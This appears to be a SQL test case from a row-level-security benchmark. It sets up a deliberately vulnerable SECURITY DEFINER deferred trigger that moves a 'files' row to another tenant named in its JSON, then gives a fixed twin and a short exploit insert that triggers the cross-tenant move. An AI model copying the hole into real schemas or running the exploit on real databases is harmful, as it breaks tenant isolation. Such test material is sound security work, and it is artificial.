-- A deferred definer trigger moves the row to the tenant its JSON names, after the policy has looked.
-- object: public.route_file()
-- object: public.files
-- base: projects
--- setup
RESET ROLE;
CREATE FUNCTION route_file() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
BEGIN
    UPDATE files SET org_id = (NEW.meta ->> 'to')::uuid WHERE org_id = NEW.org_id AND id = NEW.id AND NEW.meta ? 'to';
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER route AFTER INSERT ON files DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION route_file();
--- leak
--- twin
RESET ROLE;
ALTER FUNCTION route_file() SECURITY INVOKER;
--- exploit
INSERT INTO files (org_id, name, meta) VALUES ('{A}', 'planted', jsonb_build_object('to', '{B}'));
SET CONSTRAINTS ALL IMMEDIATE;
SELECT 1;
